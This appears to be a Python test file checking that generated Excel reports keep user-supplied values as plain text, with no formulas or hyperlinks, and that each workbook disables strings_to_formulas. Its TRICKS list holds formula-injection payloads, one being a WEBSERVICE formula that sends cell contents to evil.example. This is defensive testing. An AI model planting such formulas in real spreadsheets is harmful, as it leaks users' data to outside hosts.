"""Whatever somebody wrote is a text in every sheet that goes out: in lists, registers, documents and reports."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from typing import Any, Final

import openpyxl
import pytest

from deploy.demo.quarter import Refused
from deploy.demo.quarter.refusals import write_refusals
from gateway.imports.report import write_report

ROOT: Final = Path(__file__).parents[2]
# The demo's own workbook holds what the demo says, and nothing that anybody wrote.
OWN: Final = {"deploy/demo/sample.py"}
TRICKS: Final = (
    '=WEBSERVICE("http://evil.example/?"&A1)', '{=WEBSERVICE("http://evil.example")}', "=1+1", "+1", "-1+1", "@SUM(1)",
    "\t=1+1", "http://evil.example", "internal:A1", "external:a.xlsx", "mailto:a@evil.example", "12", "TRUE",
)  # fmt: skip


def cells(file: Any) -> list[Any]:
    """Every cell but those of the headings."""
    return [cell for row in openpyxl.load_workbook(file).worksheets[0].iter_rows(min_row=2) for cell in row]


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("locale", ["zh", "en"])
def test_what_a_refused_row_says_is_a_text_in_the_report(trick: str, locale: str) -> None:
    problem = {"column": "name", "cell": "B2", "heading": trick, "value": trick, "rule": "required", "params": {}}
    file = BytesIO()
    row = {"sheet": trick, "row": 2, "problems": [problem]}
    write_report(file, {"sheet": trick, "ignored": [trick]}, [row], locale)
    found = cells(file)
    assert [cell.value for cell in found].count(trick) == 5
    assert {cell.data_type for cell in found if cell.value == trick} == {"s"}
    assert not any(cell.hyperlink for cell in found)


@pytest.mark.parametrize("trick", TRICKS)
def test_what_the_demo_could_not_take_is_a_text_in_its_report(trick: str, tmp_path: Path) -> None:
    write_refusals(tmp_path / "refused.xlsx", [Refused("媒体", 2, trick, trick, trick, value=trick)])
    found = cells(tmp_path / "refused.xlsx")
    assert {cell.data_type for cell in found if cell.value == trick} == {"s"}
    assert not any(cell.hyperlink for cell in found)


def workbooks() -> Iterator[tuple[str, ast.Call]]:
    """Where a workbook is begun."""
    for part in ("gateway", "services", "shared", "deploy", "console", "jingmei"):
        for path in (ROOT / part).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text("utf-8"))):
                if isinstance(node, ast.Call) and ast.unparse(node.func) == "xlsxwriter.Workbook":
                    yield str(path.relative_to(ROOT)), node


def test_every_workbook_is_begun_with_options_by_which_texts_stay_texts() -> None:
    begun = {name: node for name, node in workbooks() if name not in OWN}
    assert len(begun) >= 4
    for name, node in begun.items():
        said, source = ast.unparse(node.args[1]), (ROOT / name).read_text("utf-8")
        assert said == "OPTIONS" or "'strings_to_formulas': False" in said, name
        assert "from shared.sheets.writer import OPTIONS" in source or '"strings_to_formulas": False' in source, name
